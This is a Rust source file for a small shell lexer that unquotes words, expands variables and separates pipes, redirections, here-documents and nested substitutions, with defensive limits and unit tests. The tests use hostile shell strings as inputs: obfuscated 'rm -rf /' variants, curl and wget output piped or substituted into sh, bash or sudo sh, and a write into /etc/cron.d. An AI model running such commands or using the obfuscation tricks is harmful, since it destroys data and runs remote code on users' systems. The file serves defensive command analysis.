//! A small shell lexer: simple commands with their words unquoted, redirections, pipes and what is nested in them.

use std::collections::BTreeMap;
use std::ops::Range;
use std::rc::Rc;

/// One word, as the program would get it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Word {
    /// Quotes and backslashes taken away, known variables put in.
    pub(crate) text: String,
    /// Bytes of the text that was lexed.
    pub(crate) range: Range<usize>,
    /// The output of another command is put into it.
    pub(crate) substituted: bool,
}

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// Program and arguments.
    pub(crate) words: Vec<Word>,
    /// `NAME=value` before them.
    pub(crate) assignments: Vec<(String, String)>,
    /// Operator (`>`, `>>`, `<`, `<<<`) and target.
    pub(crate) redirects: Vec<(&'static str, Word)>,
    /// Reads what the command before it writes.
    pub(crate) piped: bool,
    /// Commands whose output it takes: numbers in the same list.
    pub(crate) inner: Vec<usize>,
    /// A text given to it with `<<`.
    pub(crate) heredoc: Option<String>,
}

/// Deepest nesting that is followed.
const DEEPEST: usize = 6;
/// Most commands of one text.
const MOST: usize = 4096;
/// Most variables, and most bytes of one.
const MOST_VARIABLES: usize = 64;
const LONGEST_VALUE: usize = 1024;
/// Most bytes that variables may add to a text: `a=$b$b; b=$a$a; …` would double it with each step.
const MOST_EXPANDED: usize = 64 * 1024;

#[cfg(test)]
thread_local! {
    /// Words read for the ranges of commands on this thread.
    pub(crate) static RANGED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

impl Command {
    /// Bytes from the first to the last word.
    pub(crate) fn range(&self) -> Range<usize> {
        #[cfg(test)]
        RANGED.set(RANGED.get() + self.words.len() + self.redirects.len());
        let words =
            self.words.iter().map(|word| &word.range).chain(self.redirects.iter().map(|redirect| &redirect.1.range));
        let start = words.clone().map(|range| range.start).min().unwrap_or(0);
        start..words.map(|range| range.end).max().unwrap_or(start)
    }
}

/// The commands of `text`, those inside others before them, and whether a bound left some out.
pub(crate) fn parse(text: &str) -> (Vec<Command>, bool) {
    let (variables, spent) = Default::default();
    let mut lexer = Lexer { text, at: 0, out: Vec::new(), variables, spent, base: 0 };
    lexer.list(None, 0);
    (lexer.out, lexer.spent.cut)
}

struct Lexer<'t> {
    text: &'t str,
    at: usize,
    out: Vec<Command>,
    /// Shared with what is nested, which takes most of its texts from here.
    variables: Rc<BTreeMap<String, String>>,
    spent: Spent,
    /// Where `text` begins in the text of the caller.
    base: usize,
}

/// What a lexer and those within it have used of their bounds together.
#[derive(Debug, Clone, Copy, Default)]
struct Spent {
    /// Bytes that variables have put in.
    expanded: usize,
    /// Whether something was left out.
    cut: bool,
}

impl Lexer<'_> {
    /// Whether there is a level below this one.
    fn below(&mut self, depth: usize) -> bool {
        self.spent.cut |= depth >= DEEPEST;
        depth < DEEPEST
    }

    fn peek(&self) -> Option<char> {
        self.text.get(self.at..)?.chars().next()
    }

    fn rest(&self) -> &str {
        self.text.get(self.at..).unwrap_or_default()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.peek()?;
        self.at += c.len_utf8();
        Some(c)
    }

    /// A lexer for a text within this one, that begins here.
    fn within<'n>(&self, text: &'n str) -> Lexer<'n> {
        let (variables, spent) = (Rc::clone(&self.variables), self.spent);
        Lexer { text, at: 0, out: Vec::new(), variables, spent, base: self.base + self.at }
    }

    /// The value of a variable, while there is room for values.
    fn value(&mut self, name: &str) -> Option<String> {
        let value = self.variables.get(name)?;
        let expanded = self.spent.expanded + value.len();
        if expanded > MOST_EXPANDED {
            self.spent.cut = true;
            return None;
        }
        self.spent.expanded = expanded;
        Some(value.clone())
    }

    /// Commands up to `close` or the end.
    fn list(&mut self, close: Option<char>, depth: usize) {
        let mut command = Command::default();
        while let Some(c) = self.peek() {
            if self.out.len() >= MOST {
                self.spent.cut = true;
                self.at = self.text.len();
                break;
            }
            if Some(c) == close {
                break;
            }
            match c {
                ' ' | '\t' | '\r' => {
                    self.bump();
                }
                '#' => {
                    let line = self.rest().find('\n').unwrap_or(self.rest().len());
                    self.at += line;
                }
                '\n' | ';' | '(' | ')' => {
                    self.bump();
                    self.finish(&mut command, false);
                }
                '{' | '}' if self.rest().get(1..2).is_none_or(|next| next.trim().is_empty() || next == ";") => {
                    self.bump();
                    self.finish(&mut command, false);
                }
                '|' => {
                    self.bump();
                    let or = self.peek() == Some('|');
                    if or || self.peek() == Some('&') {
                        self.bump();
                    }
                    self.finish(&mut command, !or);
                }
                '&' => {
                    self.bump();
                    match self.peek() {
                        Some('>') => {
                            self.bump();
                            self.redirect(">", &mut command, depth);
                        }
                        Some('&') => {
                            self.bump();
                            self.finish(&mut command, false);
                        }
                        _ => self.finish(&mut command, false),
                    }
                }
                '>' | '<' => self.arrow(&mut command, depth),
                _ => {
                    let before = self.at;
                    let word = self.word(close, depth, &mut command.inner);
                    if self.at == before {
                        // Nothing that begins a word: never stand still.
                        self.bump();
                        continue;
                    }
                    // A number before an arrow is a descriptor.
                    if matches!(self.peek(), Some('>' | '<'))
                        && !word.text.is_empty()
                        && word.text.bytes().all(|b| b.is_ascii_digit())
                    {
                        continue;
                    }
                    self.add(word, &mut command);
                }
            }
        }
        self.finish(&mut command, false);
    }

    fn add(&mut self, word: Word, command: &mut Command) {
        if command.words.is_empty() {
            if let Some((name, value)) = word.text.split_once('=')
                && !name.is_empty()
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                && !word.text.starts_with('=')
            {
                let known = self.variables.contains_key(name) || self.variables.len() < MOST_VARIABLES;
                if !known || value.len() > LONGEST_VALUE {
                    self.spent.cut = true;
                } else {
                    Rc::make_mut(&mut self.variables).insert(name.to_owned(), value.to_owned());
                }
                command.assignments.push((name.to_owned(), value.to_owned()));
                return;
            }
            if matches!(
                word.text.as_str(),
                "if" | "then" | "elif" | "else" | "do" | "while" | "until" | "!" | "$" | "%"
            ) {
                return;
            }
        }
        command.words.push(word);
    }

    fn finish(&mut self, command: &mut Command, pipe: bool) {
        let done = std::mem::take(command);
        let empty =
            done.words.is_empty() && done.redirects.is_empty() && done.assignments.is_empty() && done.inner.is_empty();
        if !empty {
            self.out.push(done);
        }
        command.piped = pipe && !empty;
    }

    fn arrow(&mut self, command: &mut Command, depth: usize) {
        if (self.rest().starts_with("<(") || self.rest().starts_with(">(")) && self.below(depth) {
            let start = self.at;
            self.at += 2;
            self.nested(depth, &mut command.inner);
            let range = self.base + start..self.base + self.at;
            command.words.push(Word { text: "<()".to_owned(), range, substituted: true });
            return;
        }
        let rest = self.rest();
        if rest.starts_with("<<<") {
            self.at += 3;
            self.redirect("<<<", command, depth);
        } else if rest.starts_with("<<") {
            self.at += 2;
            self.heredoc(command, depth);
        } else if rest.starts_with(">>") {
            self.at += 2;
            self.redirect(">>", command, depth);
        } else {
            let operator = if rest.starts_with('>') { ">" } else { "<" };
            self.at += 1;
            if matches!(self.peek(), Some('&' | '|')) {
                self.bump();
            }
            self.redirect(operator, command, depth);
        }
    }

    fn redirect(&mut self, operator: &'static str, command: &mut Command, depth: usize) {
        while matches!(self.peek(), Some(' ' | '\t')) {
            self.bump();
        }
        let word = self.word(None, depth, &mut command.inner);
        if !word.text.is_empty() {
            command.redirects.push((operator, word));
        }
    }

    fn heredoc(&mut self, command: &mut Command, depth: usize) {
        if self.peek() == Some('-') {
            self.bump();
        }
        let mut none = Vec::new();
        while matches!(self.peek(), Some(' ' | '\t')) {
            self.bump();
        }
        let delimiter = self.word(None, depth, &mut none).text;
        // The body begins on the next line and ends at the delimiter; the rest of this line still belongs to the command.
        let rest = self.rest();
        let Some(line) = rest.find('\n') else { return };
        let body = rest.get(line + 1..).unwrap_or_default();
        let mut length = 0;
        for part in body.split_inclusive('\n') {
            if part.trim() == delimiter {
                break;
            }
            length += part.len();
        }
        command.heredoc = body.get(..length).map(str::to_owned);
        // Lexing goes on behind it; what stood on the line is lexed first.
        let tail = rest.get(..line).unwrap_or_default().to_owned();
        let mut lexer = self.within(&tail);
        if tail.trim_start().starts_with('|') && lexer.below(depth) {
            lexer.list(None, depth + 1);
        }
        let (more, spent) = (lexer.out, lexer.spent);
        let skipped = body.get(length..).and_then(|rest| rest.find('\n')).map_or(body.len() - length, |at| at + 1);
        self.spent = spent;
        self.at += line + 1 + length + skipped;
        self.finish(command, false);
        for (at, mut next) in more.into_iter().enumerate() {
            next.piped |= at == 0;
            self.out.push(next);
        }
    }

    /// What `$(`, a backtick or `<(` begins; the opening is behind us, the closing is taken.
    fn nested(&mut self, depth: usize, inner: &mut Vec<usize>) {
        let before = self.out.len();
        self.list(Some(')'), depth + 1);
        self.bump();
        inner.extend(before..self.out.len());
    }

    fn backtick(&mut self, depth: usize, inner: &mut Vec<usize>) {
        let body = self.rest();
        let end = body.find('`').unwrap_or(body.len());
        let text = body.get(..end).unwrap_or_default();
        let mut lexer = self.within(text);
        lexer.list(None, depth + 1);
        let before = self.out.len();
        let (made, spent) = (lexer.out, lexer.spent);
        self.spent = spent;
        self.at = (self.at + end + 1).min(self.text.len());
        for mut command in made {
            for index in &mut command.inner {
                *index += before;
            }
            self.out.push(command);
        }
        inner.extend(before..self.out.len());
    }

    fn word(&mut self, close: Option<char>, depth: usize, inner: &mut Vec<usize>) -> Word {
        let start = self.at;
        let mut word = Word::default();
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' | '\n' | ';' | '|' | '&' | '<' | '>' | '(' | ')' => break,
                _ if Some(c) == close => break,
                '\\' => {
                    self.bump();
                    match self.bump() {
                        Some('\n') | None => {}
                        Some(c) => word.text.push(c),
                    }
                }
                '\'' => {
                    self.bump();
                    let rest = self.rest();
                    let end = rest.find('\'').unwrap_or(rest.len());
                    word.text.push_str(rest.get(..end).unwrap_or_default());
                    self.at = (self.at + end + 1).min(self.text.len());
                }
                '"' => {
                    self.bump();
                    self.quoted(&mut word, depth, inner);
                }
                '`' if self.below(depth) => {
                    self.bump();
                    self.backtick(depth, inner);
                    word.substituted = true;
                }
                '$' => {
                    if self.dollar(&mut word, depth, inner) {
                        break;
                    }
                }
                _ => {
                    word.text.push(c);
                    self.bump();
                }
            }
        }
        word.range = self.base + start..self.base + self.at;
        word
    }

    fn quoted(&mut self, word: &mut Word, depth: usize, inner: &mut Vec<usize>) {
        while let Some(c) = self.peek() {
            match c {
                '"' => {
                    self.bump();
                    return;
                }
                '\\' => {
                    self.bump();
                    match self.peek() {
                        Some(c @ ('"' | '\\' | '$' | '`')) => {
                            word.text.push(c);
                            self.bump();
                        }
                        Some('\n') => {
                            self.bump();
                        }
                        _ => word.text.push('\\'),
                    }
                }
                '`' if self.below(depth) => {
                    self.bump();
                    self.backtick(depth, inner);
                    word.substituted = true;
                }
                '$' => {
                    if self.dollar(word, depth, inner) {
                        word.text.push(' ');
                    }
                }
                _ => {
                    word.text.push(c);
                    self.bump();
                }
            }
        }
    }

    /// What begins with `$`. True for `$IFS`, which is white space.
    fn dollar(&mut self, word: &mut Word, depth: usize, inner: &mut Vec<usize>) -> bool {
        self.bump();
        match self.peek() {
            Some('(') if !self.rest().starts_with("((") && self.below(depth) => {
                self.bump();
                self.nested(depth, inner);
                word.substituted = true;
            }
            Some('\'') => {
                self.bump();
                let rest = self.rest();
                let end = rest.find('\'').unwrap_or(rest.len());
                word.text.push_str(&ansi(rest.get(..end).unwrap_or_default()));
                self.at = (self.at + end + 1).min(self.text.len());
            }
            Some('{') => {
                let rest = self.rest();
                let end = rest.find('}').unwrap_or(rest.len());
                let name = rest.get(1..end).unwrap_or_default().to_owned();
                self.at = (self.at + end + 1).min(self.text.len());
                if name.starts_with("IFS") {
                    return true;
                }
                // `${X:-value}`: what it is when nobody set X.
                let (plain, fallback) = match name.split_once(":-").or_else(|| name.split_once('-')) {
                    Some((plain, fallback)) => (plain, Some(fallback)),
                    None => (name.as_str(), None),
                };
                match (self.value(plain), fallback) {
                    (Some(value), _) => word.text.push_str(&value),
                    (None, Some(fallback)) => word.text.push_str(fallback),
                    (None, None) => {
                        word.text.push_str("${");
                        word.text.push_str(&name);
                        word.text.push('}');
                    }
                }
            }
            _ => {
                let rest = self.rest();
                let length = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count();
                let name = rest.get(..length).unwrap_or_default().to_owned();
                self.at += length;
                if name == "IFS" {
                    // `$IFS$9` is a well-known way to end the name.
                    if self.rest().starts_with("$9") {
                        self.at += 2;
                    }
                    return true;
                }
                match self.value(&name) {
                    Some(value) if !name.is_empty() => word.text.push_str(&value),
                    _ => {
                        word.text.push('$');
                        word.text.push_str(&name);
                    }
                }
            }
        }
        false
    }
}

/// `$'...'`: escapes of C.
fn ansi(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let code = |radix: u32, most: usize, chars: &mut std::iter::Peekable<std::str::Chars<'_>>| {
            let mut value = 0;
            for _ in 0..most {
                let Some(digit) = chars.peek().and_then(|c| c.to_digit(radix)) else { break };
                value = value * radix + digit;
                chars.next();
            }
            char::from_u32(value)
        };
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('x') => out.extend(code(16, 2, &mut chars)),
            Some('u') => out.extend(code(16, 4, &mut chars)),
            Some(digit @ '0'..='7') => {
                let more = code(8, 2, &mut chars).map_or(0, |c| c as u32);
                out.extend(char::from_u32(digit.to_digit(8).unwrap_or(0) * if more > 7 { 64 } else { 8 } + more));
            }
            Some(c) => out.push(c),
            None => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<Vec<String>> {
        parse(text).0.iter().map(|command| command.words.iter().map(|word| word.text.clone()).collect()).collect()
    }

    #[test]
    fn words_are_unquoted() {
        assert_eq!(words("r\\m -r\"f\" '/' # all"), [["rm", "-rf", "/"]]);
        assert_eq!(words("rm${IFS}-rf$IFS/"), [["rm", "-rf", "/"]]);
        assert_eq!(words("X=rm; $X -rf \"${HOME}\""), [vec![], vec!["rm".to_owned(), "-rf".into(), "${HOME}".into()]]);
        assert_eq!(words("$'\\x72m' -rf /"), [["rm", "-rf", "/"]]);
    }

    #[test]
    fn commands_pipes_and_redirections_are_told_apart() {
        let (commands, _) = parse("curl -s http://x.example/a | sudo sh; echo hi >> /etc/cron.d/x && ls 2>/dev/null");
        assert_eq!(commands.len(), 4);
        assert!(commands[1].piped && !commands[2].piped);
        assert_eq!((commands[2].redirects[0].0, commands[2].redirects[0].1.text.as_str()), (">>", "/etc/cron.d/x"));
        assert_eq!(commands[3].words.len(), 1);
    }

    #[test]
    fn nested_commands_come_first() {
        let (commands, _) = parse("sh -c \"$(curl -s http://x.example)\"");
        assert_eq!(commands.len(), 2);
        assert_eq!(commands[0].words[0].text, "curl");
        assert_eq!(commands[1].inner, [0]);
        let (commands, _) = parse("bash <(wget -qO- http://x.example) ; echo `id`");
        assert_eq!(
            commands.iter().map(|command| command.words[0].text.as_str()).collect::<Vec<_>>(),
            ["wget", "bash", "id", "echo"]
        );
    }

    #[test]
    fn a_here_document_is_kept_apart() {
        let (commands, _) = parse("bash <<'EOF'\nrm -rf /\nEOF\nls");
        assert_eq!(commands[0].heredoc.as_deref(), Some("rm -rf /\n"));
        assert_eq!(commands[1].words[0].text, "ls");
    }

    #[test]
    fn variables_that_double_each_other_end() {
        let text = "a=xxxxxxxxxxxxxxxx;".to_owned() + &"b=$a$a;a=$b$b;".repeat(30) + &"$a".repeat(30_000);
        let total: usize = parse(&text).0.iter().flat_map(|command| &command.words).map(|word| word.text.len()).sum();
        assert!(total <= text.len() + MOST_EXPANDED, "{total}");
    }

    #[test]
    fn nothing_breaks_it() {
        for text in [
            "",
            "$(",
            "`",
            "\"",
            "'",
            "<<",
            "${",
            "a=$(b=$(c=$(d=$(e=$(f=$(g=$(h",
            "\\",
            ">",
            "| | |",
            "$'\\x",
            "{",
            "((",
            "<((",
        ] {
            parse(text);
        }
        let (commands, cut) = parse(&"a;".repeat(10_000));
        assert!(commands.len() <= MOST && cut);
    }
}
